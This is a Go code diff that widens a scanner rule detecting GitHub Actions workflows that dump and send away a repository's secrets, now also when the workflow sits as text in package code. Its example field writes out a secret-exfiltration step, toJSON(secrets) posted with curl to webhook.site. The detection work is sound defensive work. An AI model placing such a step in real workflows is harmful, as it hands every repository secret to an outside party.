@@ -20,16 +20,16 @@ type CIWorkflow struct{}
 // Meta implements analyze.Rule.
 func (CIWorkflow) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "persist/ci-workflow", Version: 1, Title: "Ships a CI workflow that sends the repository's secrets away",
+		ID: "persist/ci-workflow", Version: 2, Title: "Ships a CI workflow that sends the repository's secrets away",
 		Help: "A file of the package, as .yml or .yaml or as a template (lint.yml.tpl, ci.tmpl, an extensionless file), is a GitHub Actions workflow (runs-on: and steps:) that serialises " +
 			"every secret of the repository (${{ toJSON(secrets) }}) and sends it with curl, wget or Invoke-WebRequest to a host that is not " +
 			"GitHub's, or sends any secret or the job's token to a request bin, tunnel, paste site or a public IP address: critical. A " +
 			"workflow that dumps every secret without sending it anywhere the file names is high. A package that writes such a file into " +
 			"your repository (a \"bootstrap\" CLI, a worm) plants a job that hands your secrets over on the next push or pull request " +
-			"(Shai-Hulud's workflows, tj-actions-style dumps). Documentation (.md) is not read.",
+			"(Shai-Hulud's workflows, tj-actions-style dumps). A workflow kept as text in the package's code counts the same. Documentation (.md) is not read.",
 		Remediation:     "Remove the package, delete the workflow it added to any repository and rotate every secret of those repositories.",
 		Example:         "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://webhook.site/…",
-		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedFiles,
+		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedFiles | analyze.NeedCode,
 	}
 }
 
@@ -62,26 +62,53 @@ func (CIWorkflow) Check(ctx context.Context, t *analyze.Target, r analyze.Report
 		if t.Role(name) == analyze.RoleDocs {
 			continue
 		}
-		text := string(head)
-		dump := allSecrets.FindString(text)
-		if dump == "" && !secretRef.MatchString(text) {
+		if in, ok := judgeWorkflow(string(head)); ok {
+			in.File = name
+			r.Report(in)
+		}
+	}
+	// the workflow kept as text in code, for the code to write into
+	// the repository it runs in
+	for _, f := range rulekit.Code(ctx, t) {
+		if !f.Role.Live() {
 			continue
 		}
-		host, line := sentTo(text, dump != "")
-		switch {
-		case host != "":
-			what := "the job's secrets"
-			if dump != "" {
-				what = "every secret of the repository (" + dump + ")"
+		for _, s := range f.Facts.Strings {
+			if len(s.Value) > 64<<10 || !workflowText([]byte(s.Value)) {
+				continue
 			}
-			r.Report(analyze.Instance{File: name, Line: line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
-				Message: fmt.Sprintf("ships a CI workflow that sends %s to %s", what, host)})
-		case dump != "":
-			r.Report(analyze.Instance{File: name, Line: lineOf(text, dump), Severity: finding.SeverityHigh, Confidence: finding.ConfidenceMedium,
-				Message: "ships a CI workflow that serialises every secret of the repository (" + dump + ")"})
+			if in, ok := judgeWorkflow(s.Value); ok {
+				in.File, in.Line = f.Name, s.Pos.Line
+				in.Message = strings.Replace(in.Message, "ships a CI workflow", "holds a CI workflow as text", 1)
+				r.Report(in)
+				break
+			}
 		}
 	}
 	return nil
+}
+
+// judgeWorkflow returns the finding for a workflow's text, with its line
+// in the text; false if it sends or dumps no secrets.
+func judgeWorkflow(text string) (analyze.Instance, bool) {
+	dump := allSecrets.FindString(text)
+	if dump == "" && !secretRef.MatchString(text) {
+		return analyze.Instance{}, false
+	}
+	host, line := sentTo(text, dump != "")
+	switch {
+	case host != "":
+		what := "the job's secrets"
+		if dump != "" {
+			what = "every secret of the repository (" + dump + ")"
+		}
+		return analyze.Instance{Line: line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
+			Message: fmt.Sprintf("ships a CI workflow that sends %s to %s", what, host)}, true
+	case dump != "":
+		return analyze.Instance{Line: lineOf(text, dump), Severity: finding.SeverityHigh, Confidence: finding.ConfidenceMedium,
+			Message: "ships a CI workflow that serialises every secret of the repository (" + dump + ")"}, true
+	}
+	return analyze.Instance{}, false
 }
 
 // templateExt are the extensions a workflow template may have besides
